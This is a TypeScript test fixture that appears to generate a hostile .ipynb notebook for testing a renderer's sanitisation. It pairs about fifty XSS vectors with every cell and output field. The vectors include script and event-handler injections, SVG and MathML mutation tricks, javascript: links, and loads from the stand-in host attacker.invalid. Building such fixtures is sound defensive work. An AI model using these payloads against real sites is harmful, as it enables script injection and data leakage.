import type { JsonObject } from "@/core/json";

/** What each payload does where it can: it leaves its mark on the page that shows it. */
const run = "top.hacked=1;parent.hacked=1;window.hacked=1";
const away = "https://attacker.invalid/x";

/** Ways to run something in a page or to reach out of it, one for each kind of place that was once forgotten. */
const vectors: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//attacker.invalid/x.js></SCRIPT>`,
  `<img src=x onerror="${run}">`,
  `<img src='x' onerror=&#116;op.hacked=1>`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"></use></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text x=20 y=20>go</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror='${run}'>"></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror='${run}'></form>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}" id=click>click</a>`,
  `<a href="java\tscript:${run}">click</a>`,
  `<form action="javascript:${run}"><input type=submit autofocus onfocus="${run}"></form>`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<video><source onerror="${run}"></video>`,
  `<body onload="${run}">`,
  `<marquee onstart="${run}">x</marquee>`,
  `<style>@import '${away}'; body { display: none }</style>`,
  `<link rel=stylesheet href="${away}">`,
  `<link rel=prefetch href="${away}">`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<base href="https://attacker.invalid/">`,
  `<img src="${away}">`,
  `<img srcset="${away} 1x">`,
  `<p style="background:url(${away})">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999;background:red">over everything</p>`,
  `<div id="__next"></div><form id=hidden name=body></form><img name=getElementById>`,
  `<template><script>${run}</script></template>`,
  `<xmp><p title="</xmp><svg/onload=${run}>"></xmp>`,
  `<textarea><img title="</textarea><img src=x onerror='${run}'>"></textarea>`,
  `</pre></code></article></main><script>${run}</script>`,
  `<a target=_top href="${away}">top</a>`,
  `[click](javascript:${run})`,
  `![x](${away})`,
  `![x](javascript:${run})`,
  `<${away}>`,
  "$\\href{javascript:top.hacked=1}{x}$",
  `$\\url{javascript:${run}}$`,
  "$\\htmlData{x=1}{y}\\includegraphics{https://attacker.invalid/x}$",
  `$$\\text{</math><script>${run}</script>}$$`,
  `\u001b]8;;javascript:${run}\u0007click\u001b]8;;\u0007`,
  `\u001b]0;title\u0007<img src=x onerror="${run}">`,
];

const base64 = (text: string) => Buffer.from(text).toString("base64");

/** The places in a cell where a text of its author can stand. */
const sinks: readonly ((vector: string) => JsonObject)[] = [
  (vector) => ({ cell_type: "markdown", source: vector, metadata: {} }),
  (vector) => ({ cell_type: "markdown", source: `# ${vector}\n\n| a |\n|---|\n| ${vector} |`, metadata: {} }),
  (vector) => ({ cell_type: "raw", source: vector, metadata: { format: vector, tags: [vector] } }),
  (vector) => code([display({ "text/html": vector })]),
  (vector) => code([display({ "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg">${vector}</svg>` })]),
  (vector) => code([display({ "text/markdown": vector, "text/latex": vector, "text/plain": vector })]),
  (vector) => code([display({ "text/latex": vector })]),
  (vector) => code([{ output_type: "stream", name: `"><script>${run}</script>`, text: vector }]),
  (vector) => code([{ output_type: "error", ename: vector, evalue: vector, traceback: [vector] }]),
  (vector) => code([display({ "application/json": { [vector]: vector } as never })]),
  (vector) =>
    code([display({ "image/png": base64(vector), "text/plain": `"><img src=x onerror="${run}">` })]),
  (vector) => code([display({ "application/javascript": run, [`text/x${vector}`]: vector })]),
  (vector) => ({ ...code([]), source: vector, metadata: { name: vector } }),
  (vector) => ({
    cell_type: "markdown",
    source: `![${vector}](attachment:a.svg)`,
    attachments: { "a.svg": { "image/svg+xml": vector } },
    metadata: {},
  }),
];

function code(outputs: readonly JsonObject[]): JsonObject {
  return { cell_type: "code", source: "1", metadata: {}, execution_count: 1, outputs: [...outputs] };
}

function display(data: Readonly<Record<string, string>>): JsonObject {
  return { output_type: "display_data", data, metadata: { "image/png": { width: "1 onerror=alert(1)" } } };
}

/** Every vector at every place, as an `.ipynb`; `count` is how many there are. */
export function hostileNotebook(): { readonly text: string; readonly count: number } {
  const cells = vectors.flatMap((vector) => sinks.map((sink) => sink(vector)));
  const notebook = {
    cells: cells.map((cell, at) => ({ ...cell, id: `c${at}` })),
    metadata: {
      title: vectors[0],
      kernelspec: { name: "python3", display_name: `<img src=x onerror="${run}">`, language: "python" },
      language_info: { name: `python"><script>${run}</script>`, file_extension: ".py/../../x" },
    },
    nbformat: 4,
    nbformat_minor: 5,
  };
  return { text: JSON.stringify(notebook), count: cells.length };
}
